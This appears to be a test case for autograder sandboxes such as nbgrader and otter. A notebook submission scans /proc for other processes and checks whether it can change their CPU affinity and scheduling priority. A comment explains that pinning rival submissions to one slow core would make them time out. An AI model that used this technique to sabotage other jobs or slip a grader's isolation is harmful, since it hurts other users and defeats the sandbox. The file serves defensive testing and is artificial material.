# /// case
# about = "right answers, and sched_setaffinity and setpriority on processes that are not its own"
# kind = "escape"
# promise = 3
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# who pins the other submissions to one core, at the lowest priority, has them time out
import os

def _others():
    """Processes that are not this one: as /proc lists them, or guessed around our own numbers."""
    try:
        seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        seen = {near + step for near in (os.getpid(), os.getppid()) for step in range(-200, 200)}
    return {pid for pid in seen | {os.getppid()} if pid > 0} - {1, os.getpid()}

def _moves(pid):
    try:
        os.sched_setaffinity(pid, os.sched_getaffinity(pid))
        return True
    except OSError:
        pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))
        return True
    except OSError:
        return False

# process 1 may be the jail's own
_reached = [pid for pid in _others() if _moves(pid)]
if _reached:
    print(":".join(["PWNED", "attack/slows_others"]), len(_reached))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
